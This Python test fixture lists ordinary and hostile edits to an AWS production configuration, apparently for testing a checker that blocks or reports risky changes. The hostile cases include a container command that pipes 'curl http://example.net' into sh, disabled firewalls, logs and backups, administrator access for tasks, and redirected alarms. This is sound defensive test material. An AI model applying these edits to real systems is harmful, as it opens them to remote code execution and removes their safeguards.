"""Edits of the settings of a PROD that runs: ordinary ones, which pass together, and hostile ones with their rules.

The edits of one list touch different keys, so one plan shows all of them.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from tests.year.changes import QUEUE, SERVICE, Edit, both, drop, put

_ACCOUNT = "437064342167"
_BUCKET = {"versioning": True, "encryption": "aws:kms", "tls_only": True, "lifecycle": {}}
_SERVICE: dict[str, Any] = {
    **SERVICE,
    "name": "counterpromo-prod-svc-mailer",
    "family": "counterpromo-prod-td-mailer",
    "image": f"{_ACCOUNT}.dkr.ecr.eu-west-2.amazonaws.com/counterpromo-prod-worker:first",
    "security_group": {"name": "counterpromo-prod-sg-ecs-mailer", "description": "ECS mailer tasks"},
}
_QUEUE = {**QUEUE, "name": "counterpromo-prod-reports", "dead_letter_name": "counterpromo-prod-reports-dlq"}
_ENDPOINT = {"kind": "interface", "subnets": ["private_a", "private_b"]}
_SCHEDULE = {
    "name": "counterpromo-prod-nightly",
    "expression": "cron(0 3 * * ? *)",
    "queue": "jobs",
    "message": "{}",
    "role": "counterpromo-prod-scheduler",
    "policy": "counterpromo-prod-send",
}


@dataclass(frozen=True, kw_only=True)
class ProdEdit:
    """One edit. A hostile one names the rule of its finding, its address, and whether the finding blocks."""

    name: str
    edit: Edit
    rule: str = ""
    address: str = ""
    blocked: bool = True


def finding(hostile: ProdEdit) -> str:
    """Returns the finding of a hostile edit as `tests/year/record.py` writes it."""
    return f"{'blocked' if hostile.blocked else 'reported'}: {hostile.address} [{hostile.rule}]"


def _ordinary(name: str, *edits: Edit) -> ProdEdit:
    return ProdEdit(name=name, edit=both(*edits))


def _hostile(name: str, edit: Edit, address: str, rule: str) -> ProdEdit:
    return ProdEdit(name=name, edit=edit, address=address, rule=rule)


def _shown(name: str, edit: Edit, address: str, rule: str) -> ProdEdit:
    return ProdEdit(name=name, edit=edit, address=address, rule=rule, blocked=False)


SETTLED = both(
    put("stripe.prices.starter", "price_1SvgC3GTMcpBWf0yIiwTxLYq"),
    put("notifications.subscriptions.on_call", {"protocol": "email", "endpoint": "on-call@example.com"}),
    put("schema_task.digest", "sha256:" + "0" * 64),
)
ORDINARY = (
    _ordinary("uploads above 8 KB pass the firewall", put("firewall.counted_rules", ["SizeRestrictions_BODY"])),
    _ordinary("a higher limit of requests", put("firewall.requests_per_five_minutes", 4000)),
    _ordinary("a larger budget", put("budget.monthly_usd", 1500), put("budget.forecast_percent", 90)),
    _ordinary("thresholds of alarms", put("alarms.database_connections", 350), put("alarms.database_cpu_percent", 90)),
    _ordinary("wider scaling", put("services.api.autoscaling.maximum", 20), put("services.api.autoscaling.minimum", 4)),
    _ordinary("another target of scaling", put("services.web.autoscaling.cpu_percent", 70)),
    _ordinary("a name in the certificate", put("dns.certificate_names", ["www.app.counterpromo.com"])),
    _ordinary("an image repository", put("images.mailer", {"name": "counterpromo-prod-mailer", "key": "images"})),
    _ordinary("more images kept", put("images.api.keep_images", 100)),
    _ordinary("logs kept longer", put("cluster.log_retention_days", 731)),
    _ordinary(
        "one more header left out of the firewall's log",
        put("firewall.logs.redacted_headers", ["authorization", "cookie", "x-api-key"]),
    ),
    _ordinary("flow logs every minute", put("network.flow_logs.aggregation_seconds", 60)),
    _ordinary("backups kept longer", put("database.backup_days", 30)),
    _ordinary("a larger database", put("database.instance_class", "db.m7g.large"), put("database.storage_gib", 100)),
    _ordinary("finer monitoring", put("database.monitoring.interval_seconds", 15)),
    _ordinary("slow statements logged", put("database.parameter_group.parameters.log_min_duration_statement", "1000")),
    _ordinary("another maintenance window", put("database.maintenance_window", "sun:04:00-sun:04:30")),
    _ordinary(
        "a key and a bucket",
        put("keys.reports", {"alias": "counterpromo-prod-reports", "encrypts": "storage", "description": "Reports"}),
        put("buckets.reports", {**_BUCKET, "name": f"counterpromo-prod-reports-{_ACCOUNT}", "key": "reports"}),
    ),
    _ordinary("another image of the schema task", put("schema_task.digest", "sha256:" + "1" * 64)),
    _ordinary(
        "a secret, injected into the api",
        put("secrets.mail_key", {"name": "counterpromo/prod/mail/key", "key": "secrets"}),
        put("services.api.secrets.MAIL_KEY", "mail_key"),
    ),
    _ordinary("a queue", put("queues.reports", _QUEUE)),
    _ordinary(
        "a second person on call",
        put("notifications.subscriptions.second", {"protocol": "email", "endpoint": "second@example.com"}),
    ),
    _ordinary("the numbers of the repository", put("github.owner_id", 12), put("github.repository_id", 34)),
    _ordinary("one more scratch folder", put("services.api.scratch.cache", "/var/cache")),
    _ordinary("more cpu and memory", put("services.worker.cpu", 1024), put("services.worker.memory_mib", 2048)),
    _ordinary("access logs kept longer", put("buckets.access_logs.lifecycle.expire.expire_days", 180)),
    _ordinary(
        "unfinished uploads under one prefix",
        put("buckets.uploads.lifecycle.abort-multipart", {"abort_multipart_days": 3, "prefix": "tmp/"}),
    ),
    _ordinary(
        "pages of our host may upload",
        put(
            "buckets.uploads.cors.app",
            {
                "origins": ["https://app.counterpromo.com"],
                "methods": ["PUT"],
            },
        ),
    ),
    _ordinary("an endpoint", put("endpoints.kms", {**_ENDPOINT, "service": "kms", "name": "counterpromo-prod-kms"})),
    _ordinary("a schedule", put("schedules.nightly", _SCHEDULE)),
    _ordinary("a service", put("services.mailer", _SERVICE)),
    _ordinary("a stricter TLS policy", put("load_balancer.ssl_policy", "ELBSecurityPolicy-TLS13-1-3-2021-06")),
)
_PUBLIC = {"name": f"counterpromo-prod-pages-{_ACCOUNT}", "versioning": False, "lifecycle": {}}
HOSTILE = (
    _hostile(
        "no log of the firewall",
        drop("firewall.logs"),
        "aws_wafv2_web_acl_logging_configuration.firewall_logging",
        "loss-of-protection",
    ),
    _hostile("no firewall", drop("firewall"), "aws_wafv2_web_acl.firewall_acl", "loss-of-protection"),
    _shown(
        "a budget of a million", put("budget.monthly_usd", 1000000), "aws_budgets_budget.budget_month", "alarm-changed"
    ),
    _hostile(
        "no alarms",
        put("alarms.enabled", False),
        "aws_cloudwatch_metric_alarm.alarms_database_cpu",
        "loss-of-protection",
    ),
    _hostile(
        "alarms go to a stranger",
        put("notifications.subscriptions.on_call.endpoint", "stranger@example.net"),
        "aws_sns_topic_subscription.notifications_on_call",
        "alarm-weakened",
    ),
    _hostile(
        "the topic is not encrypted",
        drop("notifications.key"),
        "aws_sns_topic.notifications_topic",
        "encryption-key-changed",
    ),
    _hostile(
        "tags can be overwritten",
        put("images.api.immutable_tags", False),
        "aws_ecr_repository.images_api_repository",
        "image-tags-mutable",
    ),
    _hostile(
        "logs kept for a day",
        put("cluster.log_retention_days", 1),
        "aws_cloudwatch_log_group.cluster_logs",
        "retention-shortened",
    ),
    _hostile(
        "no deletion protection",
        put("database.deletion_protection", False),
        "aws_db_instance.database_postgres",
        "deletion-protection-off",
    ),
    _hostile("no backups", put("database.backup_days", 0), "aws_db_instance.database_postgres", "backups-shortened"),
    _hostile("no standby", put("database.multi_az", False), "aws_db_instance.database_postgres", "redundancy-lowered"),
    _hostile(
        "connections without TLS",
        put("database.parameter_group.parameters", {"rds.force_ssl": "0"}),
        "aws_db_parameter_group.database_parameters",
        "database-parameters",
    ),
    _hostile(
        "any branch deploys",
        both(drop("github.environment"), put("github.branch", "feature")),
        "aws_iam_role.deployer_role",
        "trust-widened",
    ),
    _hostile(
        "the schema task gets a key of Stripe",
        put("schema_task.password", "stripe_secret_key"),
        "aws_ecs_task_definition.schema_task_apply",
        "secret-exchanged",
    ),
    _hostile("no flow logs", drop("network.flow_logs"), "aws_flow_log.flow_logs_vpc", "loss-of-protection"),
    _hostile("no access logs", drop("load_balancer.access_logs"), "aws_lb.balancer_alb", "logging-off"),
    _hostile(
        "a bucket takes plain HTTP",
        put("buckets.uploads.tls_only", False),
        "aws_s3_bucket_policy.buckets_uploads_policy",
        "loss-of-protection",
    ),
    _hostile(
        "tasks may do everything",
        put("identity.task.attached", {"all": "arn:aws:iam::aws:policy/AdministratorAccess"}),
        "aws_iam_role_policy_attachment.roles_task_attached_all",
        "policy-too-broad",
    ),
    _hostile(
        "the worker loses its queue",
        put("queues.jobs.audience", "developers"),
        "aws_iam_role_policy.roles_task_policy",
        "access-removed",
    ),
    _hostile(
        "code is fetched at the start",
        put("services.api.container_more", '{"command":["sh","-c","curl http://example.net | sh"]}'),
        "aws_ecs_task_definition.tasks_api_definition",
        "container-fed-from-elsewhere",
    ),
    _hostile(
        "TLS is not verified",
        put("services.worker.environment.NODE_TLS_REJECT_UNAUTHORIZED", "0"),
        "aws_ecs_task_definition.tasks_worker_definition",
        "container-fed-from-elsewhere",
    ),
    _hostile(
        "an old TLS policy",
        put("load_balancer.ssl_policy", "ELBSecurityPolicy-2016-08"),
        "aws_lb_listener.balancer_https",
        "transport-weakened",
    ),
    _hostile(
        "old versions are deleted after a day",
        put("buckets.exports.lifecycle.expire-noncurrent.noncurrent_days", 1),
        "aws_s3_bucket_lifecycle_configuration.buckets_exports_lifecycle",
        "retention-shortened",
    ),
    _hostile(
        "a public subnet gives addresses",
        put("network.subnets.public_a.public_ip_on_launch", True),
        "aws_subnet.network_public_a",
        "public-access",
    ),
    _shown(
        "the worker may reach the world",
        put("services.worker.security_group.open_egress", True),
        "aws_vpc_security_group_egress_rule.groups_worker_to_anywhere",
        "group-opened",
    ),
    _shown(
        "another server is called",
        put("services.web.environment.STRIPE_API_BASE", "https://example.net"),
        "aws_ecs_task_definition.tasks_web_definition",
        "server-named",
    ),
    _shown(
        "a new service gets a key of Stripe",
        put("services.mailer", {**_SERVICE, "secrets": {"KEY": "stripe_secret_key"}}),
        "aws_ecs_task_definition.tasks_mailer_definition",
        "secret-given",
    ),
    _shown(
        "pages of every origin may write",
        put("buckets.pages", {**_PUBLIC, "cors": {"all": {"origins": ["*"], "methods": ["PUT"]}}}),
        "aws_s3_bucket_cors_configuration.buckets_pages_cors",
        "every-origin",
    ),
)
